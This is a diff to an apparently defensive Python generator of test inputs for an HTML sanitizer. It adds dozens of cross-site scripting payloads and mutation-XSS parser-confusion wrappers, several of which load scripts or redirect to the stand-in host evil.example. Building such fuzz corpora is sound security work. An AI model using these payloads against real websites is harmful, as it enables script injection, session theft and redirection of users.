@@ -111,6 +111,105 @@ _EXITS = (
     "[x](<javascript:alert(1)>) ![x](data:image/svg+xml,x) <javascript:alert(1)> [y]: javascript:alert(1)\n%s",
 )
 
+# Younger or rarer acts; each stands bare and behind the plainest exits alone.
+_MORE_ACTS = (
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<svg><discard onbegin=alert(1)></svg>",
+    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
+    "<svg><animateMotion onend=alert(1) dur=1s path=M0,0 /></svg>",
+    "<svg><set href=#x attributeName=href to=javascript:alert(1) /><a id=x><text y=9>x</text></a></svg>",
+    "<svg><foreignObject><iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe></foreignObject></svg>",
+    "<svg><style>@import '//evil.example/x.css';</style></svg>",
+    "<svg><image xlink:href=//evil.example/x.png></svg>",
+    "<svg><feImage href=//evil.example/x.png /></svg>",
+    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
+    "<div popover id=x onbeforetoggle=alert(1)>y</div><button popovertarget=x>x</button>",
+    "<button commandfor=x command=show-modal>x</button><dialog id=x oncommand=alert(1)></dialog>",
+    "<b contenteditable autofocus onfocus=alert(1) oncontentvisibilityautostatechange=alert(1)>x</b>",
+    "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(1) onwebkitanimationstart=alert(1)>x</b>",
+    "<script type=importmap>{}</script>",
+    "<script type=speculationrules>{}</script>",
+    "<script type=module>import '//evil.example/x.js'</script>",
+    "<link rel=modulepreload href=//evil.example/x.js>",
+    "<link rel=manifest href=//evil.example/x.json>",
+    "<link rel=dns-prefetch href=//evil.example/><link rel=preconnect href=//evil.example/>",
+    "<link rel=preload as=image imagesrcset='//evil.example/x 1x'>",
+    "<meta http-equiv=refresh content='0;//evil.example/'>",
+    "<meta http-equiv=Set-Cookie content='a=b'>",
+    "<meta name=referrer content=unsafe-url>",
+    "<fencedframe src=//evil.example/></fencedframe>",
+    "<object type=text/html data=//evil.example/></object>",
+    "<object><param name=src value=javascript:alert(1)></object>",
+    "<applet code=x.class archive=//evil.example/x.jar></applet>",
+    "<video><track default src=//evil.example/x.vtt onload=alert(1)></video>",
+    "<video controls poster=//evil.example/x.png></video>",
+    "<audio autoplay src=//evil.example/x.mp3></audio>",
+    "<picture><source srcset='//evil.example/x 1x'><img src=x onload=alert(1)></picture>",
+    "<img usemap=#m src=x><map name=m><area shape=default href=javascript:alert(1)></map>",
+    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) longdesc=javascript:alert(1)>",
+    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite='data:text/html,x'>x</q><del cite=javascript:alert(1)>x</del>",
+    "<a href=//evil.example/ ping=//evil.example/ download attributionsrc=//evil.example/>x</a>",
+    "<a href='https://a.example/' target=_top rel=opener>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a><a href=' javascript:alert(1)'>x</a>",
+    "<a href='javascript&#58;alert(1)'>x</a><a href='javascript&#x3A;alert(1)'>x</a><a href='&#106avascript:alert(1)'>x</a>",
+    "<a href='jav\nascript:alert(1)'>x</a><a href='jav\rascript:alert(1)'>x</a><a href='\x0bjavascript:alert(1)'>x</a>",
+    "<form><button formaction=javascript:alert(1)>x<input form=x formaction=//evil.example/></form>",
+    "<form action=javascript:alert(1)><input type=submit></form><select onchange=alert(1)><option>x</select>",
+    "<textarea autofocus onfocus=alert(1)>x</textarea><keygen autofocus onfocus=alert(1)>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+    "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/x src=//evil.example/x.js></script/x>",
+    "<script\x0c>alert(1)</script\t\n bar>",
+    "<img/src=x/onerror=alert(1)/x>",
+    "<img src='x' \"onerror=alert(1)//\" onerror=alert(1)>",
+    "<img src=x onerror\n=\nalert(1)>",
+    "<svg/onload=alert`1`//",
+    "<iframe src=x name=location sandbox=allow-scripts></iframe>",
+    "<iframe src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></iframe>",
+    "<iframe allow='camera *' csp='' src=//evil.example/></iframe>",
+    "<div draggable=true ondragstart=alert(1) onpaste=alert(1) oncut=alert(1)>x</div>",
+    "<div slot=x part=x exportparts=x is=x-y inert nonce=x accesskey=x tabindex=1 onkeydown=alert(1)>x</div>",
+    "<template><form><template shadowrootmode=closed><script>alert(1)</script></template></form></template>",
+)
+# Ways in which a parser changes its mind once it reads again what it wrote; each is tried with a few acts.
+_MORE_EXITS = (
+    "<form><math><mtext></form><form><mglyph><style></math>%s",
+    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>%s'></style></h1>",
+    '<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-->%s">',
+    "<math><annotation-xml encoding=text/html><style><!--</style>%s--></annotation-xml></math>",
+    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><!--&gt;%s">',
+    "<svg><iframe><a title='</iframe>%s'></iframe></svg>",
+    "<iframe><p title='</iframe>%s'></iframe>",
+    "<noframes><p title='</noframes>%s'></noframes>",
+    "<table><svg><![CDATA[><tr><td>%s]]></svg></table>",
+    "<select><iframe></select>%s</iframe>",
+    "<select><style></select>%s</style>",
+    "<noscript><style></noscript>%s",
+    "<svg></br>%s",
+    "<math></p>%s",
+    "<svg><desc><style><!--</style><a title='-->%s'>",
+    "<!--[if IE]>%s<![endif]-->",
+    "<![if !IE]>%s<![endif]>",
+    "<!--x--!>%s-->",
+    "<!-->%s-->",
+    "<!--->%s-->",
+    "<?php %s ?>",
+    "<? x='?>%s'",
+    "<% x='%>%s'",
+    "</ x='>%s'",
+    "<a <b title='%s'",
+    "<a/title='>'/>%s",
+    "<a title=\"x' title='>%s\">",
+    "<ruby><rt><rtc><table>%s</rtc></ruby>",
+    "<dl><dt><p><svg><p>%s",
+    "<a><a><table><a>%s</table></a>",
+    "<body><frameset>%s</frameset></body>",
+    "<template><svg><template>%s</template></svg></template>",
+    "<button><p><button>%s</button></p></button>",
+    "%s" + "</div>" * 30 + "<div>" * 120 + "%s",
+)
+
 
 def _spelled(text: str) -> Iterator[str]:
     """The same to a browser, or to a lenient one, in other signs."""
@@ -126,12 +225,16 @@ def _spelled(text: str) -> Iterator[str]:
 
 
 def markup() -> Iterator[str]:
-    """Every act behind every exit, and the first exits in every spelling."""
+    """Every act behind every exit, and the first exits in every spelling; the rarer ones behind some."""
     for act in _ACTS:
         for exit_ in _EXITS:
             yield exit_.replace("%s", act)
         for exit_ in _EXITS[:3]:
             yield from _spelled(exit_.replace("%s", act))
+    for act in _MORE_ACTS:
+        yield from (exit_.replace("%s", act) for exit_ in _EXITS[:3])
+    for act in _ACTS[:24:4]:
+        yield from (exit_.replace("%s", act) for exit_ in _MORE_EXITS)
 
 
 def some_markup(number: int) -> list[str]:
